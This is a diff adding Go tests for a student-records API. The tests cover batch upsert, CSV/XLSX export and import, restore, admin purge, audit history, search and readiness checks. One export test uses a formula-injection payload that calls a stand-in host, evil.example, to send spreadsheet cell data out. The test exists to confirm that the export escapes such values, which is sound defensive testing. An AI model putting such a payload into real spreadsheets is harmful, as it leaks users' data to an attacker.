+			contentType: "application/json",
+			inputBody:   `[{"name": "Student #1","email": "#1@mail.com"}, {"name": "","email": "#2@mail.com"}, {"name": "Student #3","email": "#3@mail.com"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), []models.Student{
+					{Name: "Student #1", Email: "#1@mail.com"},
+					{Email: "#2@mail.com"},
+					{Name: "Student #3", Email: "#3@mail.com"},
+				}, false).Return([]models.BatchItemResult{
+					{Index: 0, ID: 1, Status: models.BatchCreated},
+					{Index: 1, Status: models.BatchFailed, Error: "validation failed: name is required"},
+					{Index: 2, ID: 3, Status: models.BatchUpdated},
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"created":1,"updated":1,"failed":1,"results":[{"index":0,"id":1,"status":"created"},{"index":1,"status":"failed","error":"validation failed: name is required"},{"index":2,"id":3,"status":"updated"}]}`,
+		},
+		{
+			name:        "NDJSON Stream",
+			path:        "/students:batch",
+			contentType: "application/x-ndjson",
+			inputBody:   "{\"name\": \"Student #1\",\"email\": \"#1@mail.com\"}\n\nnot json\n",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), []models.Student{
+					{Name: "Student #1", Email: "#1@mail.com"},
+					{},
+				}, false).Return([]models.BatchItemResult{
+					{Index: 0, ID: 1, Status: models.BatchCreated},
+					{Index: 1, Status: models.BatchFailed, Error: "validation failed: name is required, email is required"},
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"created":1,"updated":0,"failed":1,"results":[{"index":0,"id":1,"status":"created"},{"index":1,"status":"failed","error":"failed to unmarshal data"}]}`,
+		},
+		{
+			name:        "Atomic With Invalid Item",
+			path:        "/students:batch?atomic=true",
+			contentType: "application/json",
+			inputBody:   `[{"name": "Student #1","email": "#1@mail.com"}, {"name": "Student #2","email": "invalid"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), gomock.Any(), true).Return([]models.BatchItemResult{
+					{Index: 0, Status: models.BatchRolledBack},
+					{Index: 1, Status: models.BatchFailed, Error: "validation failed: email must be a valid email address"},
+				}, nil)
+			},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"created":0,"updated":0,"failed":1,"results":[{"index":0,"status":"rolled_back"},{"index":1,"status":"failed","error":"validation failed: email must be a valid email address"}]}`,
+		},
+		{
+			name:        "Atomic Rolled Back",
+			path:        "/students:batch?atomic=1",
+			contentType: "application/json",
+			inputBody:   `[{"name": "Student #1","email": "#1@mail.com"}, {"name": "Student #2","email": "#2@mail.com"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), gomock.Any(), true).Return([]models.BatchItemResult{
+					{Index: 0, Status: models.BatchRolledBack},
+					{Index: 1, Status: models.BatchFailed, Error: "value too long"},
+				}, nil)
+			},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"created":0,"updated":0,"failed":1,"results":[{"index":0,"status":"rolled_back"},{"index":1,"status":"failed","error":"value too long"}]}`,
+		},
+		{
+			name:                "Not An Array",
+			path:                "/students:batch",
+			contentType:         "application/json",
+			inputBody:           `{"name": "Student #1"}`,
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"batch must be a JSON array"}`,
+		},
+		{
+			name:        "Failed to Upsert Students",
+			path:        "/students:batch",
+			contentType: "application/json",
+			inputBody:   `[{"name": "Student #1","email": "#1@mail.com"}]`,
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), gomock.Any(), false).Return(nil, errors.New("connection reset"))
+			},
+			expectedStatusCode:  500,
+			expectedRequestBody: `{"error":"failed to upsert students"}`,
+		},
+		{
+			name:                "Unknown Action",
+			path:                "/students:merge",
+			contentType:         "application/json",
+			inputBody:           `[]`,
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  404,
+			expectedRequestBody: `404 page not found`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.POST("/students", handlers.CreateStudent)
+
+			actions := gin.Default()
+			actions.POST("/students:batch", handlers.BatchStudents)
+
+			mux := http.NewServeMux()
+			mux.Handle("POST /students:batch", actions)
+			mux.Handle("/", r)
+
+			req, _ := http.NewRequest(http.MethodPost, testCase.path, bytes.NewBufferString(testCase.inputBody))
+			req.Header.Set("Content-Type", testCase.contentType)
+			rec := httptest.NewRecorder()
+
+			mux.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_ExportStudents(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	exportTwo := func(s *mock_handlers.MockStudentService) {
+		s.EXPECT().Export(gomock.Any(), gomock.Any()).DoAndReturn(func(_ context.Context, fn func(models.Student) error) error {
+			birthDate := models.NewDate(2004, time.May, 17)
+			year := 2022
+			_ = fn(models.Student{
+				ID: 1, Name: "Student #1", Email: "#1@mail.com", FirstName: "Ivan", LastName: "Petrov", BirthDate: &birthDate,
+				Phone: "+79991234567", EnrollmentYear: &year, Status: models.StatusEnrolled, StudentNumber: "2022-000001",
+			})
+			return fn(models.Student{ID: 2, Name: "Student, #2", Email: "#2@mail.com", Status: models.StatusApplicant, StudentNumber: "2024-000002"})
+		})
+	}
+
+	testCases := []struct {
+		name                string
+		query               string
+		accept              string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedContentType string
+		expectedRequestBody string
+	}{
+		{
+			name:                "CSV By Default",
+			mockBehaviour:       exportTwo,
+			expectedStatusCode:  200,
+			expectedContentType: "text/csv; charset=utf-8",
+			expectedRequestBody: "id,name,email,first_name,last_name,middle_name,birth_date,phone,enrollment_year,status,student_number\n" +
+				"1,Student #1,#1@mail.com,Ivan,Petrov,,2004-05-17,+79991234567,2022,enrolled,2022-000001\n" +
+				"2,\"Student, #2\",#2@mail.com,,,,,,,applicant,2024-000002\n",
+		},
+		{
+			name:                "XLSX By Accept",
+			accept:              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+			mockBehaviour:       exportTwo,
+			expectedStatusCode:  200,
+			expectedContentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+		},
+		{
+			name:                "Not Acceptable",
+			accept:              "application/pdf",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  406,
+			expectedContentType: "application/json; charset=utf-8",
+			expectedRequestBody: `{"error":"unsupported export format"}`,
+		},
+		{
+			name:  "Failed to Export Students",
+			query: "?format=csv",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Export(gomock.Any(), gomock.Any()).Return(errors.New("connection reset"))
+			},
+			expectedStatusCode:  500,
+			expectedContentType: "application/json; charset=utf-8",
+			expectedRequestBody: `{"error":"failed to export students"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.GET("/students/export", handlers.ExportStudents)
+			r.GET("/students/:id", handlers.ReadStudent)
+
+			req, _ := http.NewRequest(http.MethodGet, "/students/export"+testCase.query, nil)
+			if testCase.accept != "" {
+				req.Header.Set("Accept", testCase.accept)
+			}
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedContentType, rec.Header().Get("Content-Type"))
+			if testCase.expectedContentType == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
+				// XLSX - zip-архив, проверяем только сигнатуру
+				assert.Equal(t, "PK", rec.Body.String()[:2])
+				return
+			}
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_ExportStudents_Formulas(t *testing.T) {
+	name := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+
+	testCases := []struct {
+		name   string
+		format string
+	}{
+		{name: "CSV", format: "csv"},
+		{name: "XLSX", format: "xlsx"},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			students.EXPECT().Export(gomock.Any(), gomock.Any()).DoAndReturn(func(_ context.Context, fn func(models.Student) error) error {
+				return fn(models.Student{ID: 1, Name: name, Email: "@evil.example", LastName: "-2+3", Phone: "+79991234567"})
+			})
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.GET("/students/export", handlers.ExportStudents)
+
+			req, _ := http.NewRequest(http.MethodGet, "/students/export?format="+testCase.format, nil)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, 200, rec.Code)
+
+			if testCase.format == "csv" {
+				records, err := csv.NewReader(rec.Body).ReadAll()
+				assert.Equal(t, nil, err)
+				assert.Equal(t, []string{"1", "'" + name, "'@evil.example", "", "'-2+3", "", "", "+79991234567", "", "", ""}, records[1])
+				return
+			}
+
+			// В XLSX значения остаются строками, а не формулами
+			f, err := excelize.OpenReader(rec.Body)
+			assert.Equal(t, nil, err)
+			defer f.Close()
+
+			formula, err := f.GetCellFormula("Students", "B2")
+			assert.Equal(t, nil, err)
+			assert.Equal(t, "", formula)
+
+			value, err := f.GetCellValue("Students", "B2")
+			assert.Equal(t, nil, err)
+			assert.Equal(t, name, value)
+		})
+	}
+}
+
+func TestHandlers_ImportStudents(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		fields              map[string]string
+		file                string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:   "OK With Mapping",
+			fields: map[string]string{"mapping": `{"name": "ФИО", "email": "E-mail"}`},
+			file:   "\ufeffФИО,E-mail\nStudent #1,#1@MAIL.com\n,#2@mail.com\nStudent #3,#3@mail.com\n",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), []models.Student{
+					{Name: "Student #1", Email: "#1@MAIL.com"},
+					{Email: "#2@mail.com"},
+					{Name: "Student #3", Email: "#3@mail.com"},
+				}, false).Return([]models.BatchItemResult{
+					{Index: 0, ID: 1, Status: models.BatchCreated},
+					{Index: 1, Status: models.BatchFailed, Error: "validation failed: name is required"},
+					{Index: 2, Status: models.BatchFailed, Error: "value too long"},
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"dry_run":false,"created":1,"updated":0,"valid":0,"failed":2,"rows":[{"row":2,"id":1,"status":"created"},{"row":3,"status":"failed","error":"validation failed: name is required"},{"row":4,"status":"failed","error":"value too long"}]}`,
+		},
+		{
+			name: "Escaped Formula From Export",
+			file: "id,name,email,first_name,last_name,middle_name,birth_date,phone,enrollment_year,status,student_number\n" +
+				"1,'=1+2,#1@mail.com,,,,,,,,\n",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), []models.Student{{Name: "=1+2", Email: "#1@mail.com"}}, false).
+					Return([]models.BatchItemResult{{Index: 0, ID: 1, Status: models.BatchCreated}}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"dry_run":false,"created":1,"updated":0,"valid":0,"failed":0,"rows":[{"row":2,"id":1,"status":"created"}]}`,
+		},
+		{
+			name: "Apostrophe Kept Outside Export",
+			file: "name,email\n'=SUM,#1@mail.com\n",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Upsert(gomock.Any(), []models.Student{{Name: "'=SUM", Email: "#1@mail.com"}}, false).
+					Return([]models.BatchItemResult{{Index: 0, ID: 1, Status: models.BatchCreated}}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"dry_run":false,"created":1,"updated":0,"valid":0,"failed":0,"rows":[{"row":2,"id":1,"status":"created"}]}`,
+		},
+		{
+			name: "Profile Columns From Export",
+			file: "id,name,email,first_name,last_name,middle_name,birth_date,phone,enrollment_year,status,student_number\n" +
+				"1,Student #1,#1@mail.com,Ivan,Petrov,,2004-05-17,+79991234567,2022,enrolled,2022-000001\n" +
+				"2,Student #2,#2@mail.com,,,,17.05.2004,,,,\n",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				birthDate := models.NewDate(2004, time.May, 17)
+				year := 2022
+				s.EXPECT().Upsert(gomock.Any(), []models.Student{{
+					Name: "Student #1", Email: "#1@mail.com", FirstName: "Ivan", LastName: "Petrov", BirthDate: &birthDate,
+					Phone: "+79991234567", EnrollmentYear: &year, StudentNumber: "2022-000001",
+				}}, false).Return([]models.BatchItemResult{{Index: 0, ID: 1, Status: models.BatchUpdated}}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"dry_run":false,"created":0,"updated":1,"valid":0,"failed":1,"rows":[{"row":2,"id":1,"status":"updated"},{"row":3,"status":"failed","error":"birth_date must be in 2006-01-02 format"}]}`,
+		},
+		{
+			name:   "Dry Run",
+			fields: map[string]string{"dry_run": "true"},
+			file:   "email,name\n#1@mail.com,Student #1\nbad,Student #2\n",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().ValidateImport([]models.Student{
+					{Name: "Student #1", Email: "#1@mail.com"},
+					{Name: "Student #2", Email: "bad"},
+				}).Return([]models.BatchItemResult{
+					{Index: 0, Status: models.ImportValid},
+					{Index: 1, Status: models.BatchFailed, Error: "validation failed: email must be a valid email address"},
+				})
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"dry_run":true,"created":0,"updated":0,"valid":1,"failed":1,"rows":[{"row":2,"status":"valid"},{"row":3,"status":"failed","error":"validation failed: email must be a valid email address"}]}`,
+		},
+		{
+			name:                "Missing Column",
+			file:                "name\nStudent #1\n",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"column \"email\" not found"}`,
+		},
+		{
+			name:                "Unknown Mapping Field",
+			fields:              map[string]string{"mapping": `{"age": "Возраст"}`},
+			file:                "name,email\n",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"unknown field \"age\" in mapping"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.POST("/students/import", handlers.ImportStudents)
+
+			body := &bytes.Buffer{}
+			w := multipart.NewWriter(body)
+			for key, value := range testCase.fields {
+				_ = w.WriteField(key, value)
+			}
+			part, _ := w.CreateFormFile("file", "students.csv")
+			_, _ = part.Write([]byte(testCase.file))
+			_ = w.Close()
+
+			req, _ := http.NewRequest(http.MethodPost, "/students/import", body)
+			req.Header.Set("Content-Type", w.FormDataContentType())
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_RestoreStudent(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name: "OK",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Restore(gomock.Any(), 1).Return(&models.Student{ID: 1, Name: "Student #1", Email: "#1@mail.com", Version: 5}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"#1@mail.com"}`,
+		},
+		{
+			name: "Not Deleted",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Restore(gomock.Any(), 1).Return(nil, service.ErrNotFound)
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"deleted student not found"}`,
+		},
+		{
+			name: "Email Taken",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Restore(gomock.Any(), 1).Return(nil, service.ErrEmailTaken)
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"email_taken","error":"email already taken"}`,
+		},
+		{
+			name: "Course Full",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Restore(gomock.Any(), 1).Return(nil, fmt.Errorf("storage.postgres.Restore: %w", service.ErrCourseFull))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"course_full","error":"course is full"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.POST("/students/:id/restore", handlers.RestoreStudent)
+
+			req, _ := http.NewRequest(http.MethodPost, "/students/1/restore", nil)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_PurgeStudent(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		authorization       string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:          "OK",
+			authorization: "Bearer secret",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Purge(gomock.Any(), 1).Return(nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"message":"student purged successfully"}`,
+		},
+		{
+			name:          "Not Found",
+			authorization: "Bearer secret",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Purge(gomock.Any(), 1).Return(service.ErrNotFound)
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
+		{
+			name:                "Unauthorized",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  401,
+			expectedRequestBody: `{"error":"unauthorized"}`,
+		},
+		{
+			name:                "Wrong Token",
+			authorization:       "Bearer guess",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  403,
+			expectedRequestBody: `{"error":"forbidden"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			adminOnly := handlers.AdminOnly("secret")
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			admin := r.Group("/admin", adminOnly)
+			admin.DELETE("/students/:id", handlers.PurgeStudent)
+
+			req, _ := http.NewRequest(http.MethodDelete, "/admin/students/1", nil)
+			if testCase.authorization != "" {
+				req.Header.Set("Authorization", testCase.authorization)
+			}
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_HistoryStudent(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	createdAt := time.Date(2024, 9, 1, 12, 0, 0, 0, time.UTC)
+
+	testCases := []struct {
+		name                string
+		query               string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:  "OK",
+			query: "?limit=1&offset=1",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().History(gomock.Any(), 1, 1, 1).DoAndReturn(func(ctx context.Context, id, limit, offset int) (*models.AuditLog, error) {
+					assert.Equal(t, "unverified:x-actor:admin", audit.Actor(ctx))
+					assert.Equal(t, "req-1", audit.RequestID(ctx))
+
+					return &models.AuditLog{
+						Events: []models.AuditEvent{{
+							ID:        7,
+							StudentID: 1,
+							Action:    models.AuditUpdate,
+							Actor:     "admin",
+							Changes:   map[string]models.FieldChange{"name": {Before: "Old", After: "New"}},
+							CreatedAt: createdAt,
+						}},
+						Total: 2,
+					}, nil
+				})
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"events":[{"id":7,"student_id":1,"action":"update","actor":"admin","changes":{"name":{"before":"Old","after":"New"}},"created_at":"2024-09-01T12:00:00Z"}],"total":2}`,
+		},
+		{
+			name:  "Default Page",
+			query: "",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().History(gomock.Any(), 1, 20, 0).Return(&models.AuditLog{Events: []models.AuditEvent{}}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"events":[],"total":0}`,
+		},
+		{
+			name:                "Invalid Limit",
+			query:               "?limit=1000",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid limit"}`,
+		},
+		{
+			name:  "Storage Failure",
+			query: "",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().History(gomock.Any(), 1, 20, 0).Return(nil, errors.New("some error"))
+			},
+			expectedStatusCode:  500,
+			expectedRequestBody: `{"error":"failed to read student history"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			requestID := handlers.RequestID()
+			auditContext := handlers.AuditContext("secret")
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.Use(requestID, auditContext)
+			r.GET("/students/:id/history", handlers.HistoryStudent)
+
+			req, _ := http.NewRequest(http.MethodGet, "/students/1/history"+testCase.query, nil)
+			req.Header.Set("X-Actor", "admin")
+			req.Header.Set("X-Request-ID", "req-1")
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHandlers_SearchStudents(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockStudentService)
+
+	testCases := []struct {
+		name                string
+		query               string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:  "OK",
+			query: "?q=%20ivan%20&limit=5",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Search(gomock.Any(), models.SearchParams{Query: " ivan ", Limit: 5}).Return(&models.SearchList{
+					Results: []models.SearchResult{{
+						Student:    models.Student{ID: 1, Name: "Ivan Petrov", Email: "ivan@mail.com"},
+						Rank:       0.5,
+						Highlights: map[string]string{"name": "<mark>Ivan</mark> Petrov"},
+					}},
+					Total: 1,
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"results":[{"id":1,"name":"Ivan Petrov","email":"ivan@mail.com","rank":0.5,"highlights":{"name":"\u003cmark\u003eIvan\u003c/mark\u003e Petrov"}}],"total":1}`,
+		},
+		{
+			name:  "Missing Query",
+			query: "?q=%20",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Search(gomock.Any(), models.SearchParams{Query: " ", Limit: 20}).Return(nil, service.ErrEmptyQuery)
+			},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"missing query"}`,
+		},
+		{
+			name:  "Query Too Long",
+			query: "?q=" + strings.Repeat("a", 256),
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Search(gomock.Any(), gomock.Any()).Return(nil, service.ErrQueryTooLong)
+			},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"query too long"}`,
+		},
+		{
+			name:                "Invalid Offset",
+			query:               "?q=ivan&offset=-1",
+			mockBehaviour:       func(s *mock_handlers.MockStudentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid offset"}`,
+		},
+		{
+			name:  "Storage Failure",
+			query: "?q=ivan",
+			mockBehaviour: func(s *mock_handlers.MockStudentService) {
+				s.EXPECT().Search(gomock.Any(), models.SearchParams{Query: "ivan", Limit: 20}).Return(nil, errors.New("some error"))
+			},
+			expectedStatusCode:  500,
+			expectedRequestBody: `{"error":"failed to search students"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockStudentService(c)
+			testCase.mockBehaviour(students)
+
+			handlers := handlers.NewHandlers(students, testLogger)
+
+			r := gin.Default()
+			r.GET("/students/search", handlers.SearchStudents)
+
+			req, _ := http.NewRequest(http.MethodGet, "/students/search"+testCase.query, nil)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestAuditContext(t *testing.T) {
+	testCases := []struct {
+		name          string
+		authorization string
+		actor         string
+		expected      string
+	}{
+		{name: "Anonymous", expected: ""},
+		{name: "Unverified Header", actor: " ivanov ", expected: "unverified:x-actor:ivanov"},
+		{name: "Admin Token", authorization: "Bearer secret", actor: "ivanov", expected: "admin:token"},
+		{name: "Wrong Token", authorization: "Bearer guess", actor: "admin:token", expected: "unverified:x-actor:admin:token"},
+		{name: "Too Long", actor: strings.Repeat("я", 129), expected: ""},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			var seen string
+
+			r := gin.Default()
+			r.Use(handlers.AuditContext("secret"))
+			r.GET("/ping", func(ctx *gin.Context) {
+				seen = audit.Actor(ctx.Request.Context())
+			})
+
+			req, _ := http.NewRequest(http.MethodGet, "/ping", nil)
+			if testCase.authorization != "" {
+				req.Header.Set("Authorization", testCase.authorization)
+			}
+			if testCase.actor != "" {
+				req.Header.Set("X-Actor", testCase.actor)
+			}
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expected, seen)
+		})
+	}
+}
+
+func TestHealth_Readyz(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockHealthChecker)
+
+	upToDate := &models.MigrationStatus{Version: 4, Expected: 4}
+
+	testCases := []struct {
+		name                string
+		draining            bool
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name: "Ready",
+			mockBehaviour: func(s *mock_handlers.MockHealthChecker) {
+				s.EXPECT().Ping(gomock.Any()).Return(nil)
+				s.EXPECT().MigrationStatus(gomock.Any()).Return(upToDate, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"checks":{"database":"ok","draining":false,"migrations":"ok"},"status":"ready"}`,
+		},
+		{
+			name: "Database Unavailable",
+			mockBehaviour: func(s *mock_handlers.MockHealthChecker) {
+				s.EXPECT().Ping(gomock.Any()).Return(errors.New("connection refused"))
+				s.EXPECT().MigrationStatus(gomock.Any()).Return(nil, errors.New("connection refused"))
+			},
+			expectedStatusCode:  503,
+			expectedRequestBody: `{"checks":{"database":"unavailable","draining":false,"migrations":"unknown"},"status":"unavailable"}`,
+		},
+		{
+			name: "Newer Schema",
+			mockBehaviour: func(s *mock_handlers.MockHealthChecker) {
+				s.EXPECT().Ping(gomock.Any()).Return(nil)
+				s.EXPECT().MigrationStatus(gomock.Any()).Return(&models.MigrationStatus{Version: 5, Expected: 4}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"checks":{"database":"ok","draining":false,"migrations":"ok"},"status":"ready"}`,
+		},
+		{
+			name: "Outdated Schema",
+			mockBehaviour: func(s *mock_handlers.MockHealthChecker) {
+				s.EXPECT().Ping(gomock.Any()).Return(nil)
+				s.EXPECT().MigrationStatus(gomock.Any()).Return(&models.MigrationStatus{Version: 3, Expected: 4}, nil)
+			},
+			expectedStatusCode:  503,
+			expectedRequestBody: `{"checks":{"database":"ok","draining":false,"migrations":"outdated"},"status":"unavailable"}`,
+		},
+		{
+			name: "Dirty Schema",
+			mockBehaviour: func(s *mock_handlers.MockHealthChecker) {
+				s.EXPECT().Ping(gomock.Any()).Return(nil)
+				s.EXPECT().MigrationStatus(gomock.Any()).Return(&models.MigrationStatus{Version: 4, Expected: 4, Dirty: true}, nil)
+			},
+			expectedStatusCode:  503,
+			expectedRequestBody: `{"checks":{"database":"ok","draining":false,"migrations":"dirty"},"status":"unavailable"}`,
+		},
+		{
+			name:     "Draining",
+			draining: true,
